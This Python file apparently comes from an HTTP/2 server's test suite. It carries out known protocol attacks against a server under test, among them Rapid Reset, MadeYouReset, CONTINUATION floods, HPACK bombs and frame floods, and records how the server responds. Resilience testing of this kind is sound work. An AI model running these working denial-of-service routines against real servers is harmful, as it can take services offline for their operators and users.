# SPDX-License-Identifier: Apache-2.0
"""Attacks on a server of HTTP/2, each of no more than 500 abusive frames; run as a program, they
are carried out one after another until its standard input ends.

    abuse.py ADDRESS PATH NAME...       PATH is a service that never answers

Where a name says what is attacked it is the one of the vulnerability or of the frame."""
import contextlib
import struct
import sys
import threading

from support import h2frames as h2

N = 500
ENDS_SECONDS = 20


def opened(wire, path, *more, method="POST"):
    """A stream whose request has not ended."""
    return wire.head(h2.request_fields(path, method, *more), h2.END_HEADERS)


def rapid_reset(wire, path):
    """CVE-2023-44487: requests that are taken back at once."""
    for _ in range(N // 2):
        stream = wire.head(h2.request_fields(path))
        wire.send(h2.rst_stream(stream))


def made_you_reset(wrong):
    """CVE-2025-8671: requests that the server has to reset, for `wrong`."""
    def attack(wire, path):
        for _ in range(N // 2):
            with contextlib.suppress(TimeoutError):
                wire.send(wrong(opened(wire, path, ("content-length", "9"))))
    return attack


def window_of_zero(stream):
    return h2.window_update(stream, 0)


def window_overflow(stream):
    return h2.window_update(stream, 0x7fffffff)


def too_much_data(stream):
    return h2.frame(h2.DATA, 0, stream, bytes(10))


def early_end(stream):
    return h2.frame(h2.DATA, h2.END_STREAM, stream, bytes(8))


def bad_trailers(stream):
    return h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream, h2.field(":path", "/"))


def trailers_without_end(stream):
    return h2.frame(h2.HEADERS, h2.END_HEADERS, stream, h2.field("a", "b"))


def priority_of_itself(stream):
    return h2.frame(h2.PRIORITY, 0, stream, struct.pack(">IB", stream, 1))


def data_behind_the_end(stream):
    return h2.frame(h2.DATA, h2.END_STREAM, stream, bytes(9)) + h2.frame(h2.DATA, 0, stream, b"a")


def malformed_heads(wire, path):
    for _ in range(N):
        wire.head(h2.request_fields(path, "GET", ("Upper", "case")))


def continuations(payload):
    """CVE-2024-28182: a head that never ends."""
    def attack(wire, path):
        wire.head(h2.request_fields(path), h2.END_STREAM)
        wire.send(*[h2.frame(h2.CONTINUATION, 0, 1, payload) for _ in range(N)])
    return attack


def repeated(*frames):
    def attack(wire, _path):
        wire.send(*frames * (N // len(frames)))
    return attack


def on_a_stream(make):
    """The same on a stream with a request under way."""
    def attack(wire, path):
        stream = opened(wire, path)
        wire.send(*[make(stream) for _ in range(N)])
    return attack


def idle_priorities(wire, _path):
    wire.send(*[h2.frame(h2.PRIORITY, 0, stream, struct.pack(">IB", 0, 1))
                for stream in range(1, 2 * N, 2)])


def bomb(*kept):
    """CVE-2026-49975: a byte for each field, which stands for 4,000."""
    def attack(wire, path):
        head = h2.block(h2.request_fields(path))
        wire.head(head + h2.kept_field(*kept))
        full = head + h2.indexed(62) * (16384 - len(head))
        for _ in range(N):
            wire.head(full)
    return attack


def bomb_in_parts(wire, path):
    """The same in a head of many frames."""
    wire.head(h2.block(h2.request_fields(path)) + h2.kept_field("x-bomb", "b" * 4000))
    wire.head(h2.request_fields(path), h2.END_STREAM)
    wire.send(*[h2.frame(h2.CONTINUATION, 0, 3, h2.indexed(62) * 16384) for _ in range(N)])


ATTACKS = {
    "rapid reset": rapid_reset,
    "MadeYouReset: window of zero": made_you_reset(window_of_zero),
    "MadeYouReset: window overflow": made_you_reset(window_overflow),
    "MadeYouReset: too much DATA": made_you_reset(too_much_data),
    "MadeYouReset: early end": made_you_reset(early_end),
    "MadeYouReset: bad trailers": made_you_reset(bad_trailers),
    "MadeYouReset: trailers without end": made_you_reset(trailers_without_end),
    "MadeYouReset: PRIORITY of itself": made_you_reset(priority_of_itself),
    "MadeYouReset: DATA behind the end": made_you_reset(data_behind_the_end),
    "malformed heads": malformed_heads,
    "CONTINUATION, empty": continuations(b""),
    "CONTINUATION, with fields": continuations(h2.field("x", "y")),
    "CONTINUATION, large": continuations(h2.field("x", "y" * 16000)),
    "PING": repeated(h2.frame(h2.PING, payload=bytes(8))),
    "PING ACK": repeated(h2.frame(h2.PING, h2.ACK, payload=bytes(8))),
    "SETTINGS": repeated(h2.settings(initial_window=65535)),
    "SETTINGS, empty": repeated(h2.settings()),
    "SETTINGS, windows": repeated(h2.settings(initial_window=0), h2.settings(initial_window=99)),
    "PRIORITY": idle_priorities,
    "DATA, empty": on_a_stream(lambda stream: h2.frame(h2.DATA, 0, stream)),
    "DATA, only padding":
        on_a_stream(lambda stream: h2.frame(h2.DATA, h2.PADDED, stream, b"\x08" + bytes(8))),
    "WINDOW_UPDATE": repeated(h2.window_update(0, 1)),
    "WINDOW_UPDATE of a stream": on_a_stream(lambda stream: h2.window_update(stream, 1)),
    "unknown frames": repeated(h2.frame(0x42, 0xff, 0, bytes(8))),
    "unknown frames on a stream": on_a_stream(lambda stream: h2.frame(0x42, 0, stream, b"")),
    "PRIORITY_UPDATE": repeated(h2.frame(0x10, 0, 0, struct.pack(">I", 1) + b"u=1")),
    "GOAWAY": repeated(h2.frame(h2.GOAWAY, payload=bytes(8))),
    "HPACK bomb": bomb("x-bomb", "b" * 4000),
    "HPACK bomb of cookies": bomb("cookie", "b"),
    "HPACK bomb of empty values": bomb("x", ""),
    "HPACK bomb in parts": bomb_in_parts,
}


class Outcome:
    def __init__(self, has_ended, goaway, heads):
        self.has_ended = has_ended  # the server closed the connection
        self.goaway = goaway  # the code it said; None when that was lost in a reset
        self.heads = heads  # answers by status

    def __repr__(self):
        return f"<{'ended' if self.has_ended else 'goes on'}, {self.goaway}, {self.heads}>"


def carry_out(name, address, path, seconds=ENDS_SECONDS):
    """Sends the frames of an attack, and takes what comes meanwhile."""
    with h2.H2.open(address) as wire:
        wire.step()  # the server's SETTINGS; from now on only the sender sends
        wire.is_mute = True

        def send():
            with contextlib.suppress(OSError):
                ATTACKS[name](wire, path)

        sender = threading.Thread(target=send)
        sender.start()
        has_ended = wire.end(seconds)
        if not has_ended:
            wire.sock.shutdown(2)
        sender.join()
        heads = {}
        for seen in wire.streams.values():
            heads[seen.status] = heads.get(seen.status, 0) + 1
        return Outcome(has_ended, wire.goaway, heads)


def main():
    address, path, *names = sys.argv[1:]
    ended = threading.Event()
    threading.Thread(target=lambda: (sys.stdin.read(), ended.set()), daemon=True).start()
    print("ready", flush=True)
    while not ended.is_set():
        for name in names or ATTACKS:
            with contextlib.suppress(OSError):
                carry_out(name, address, path, 2)
            if ended.is_set():
                break


if __name__ == "__main__":
    main()
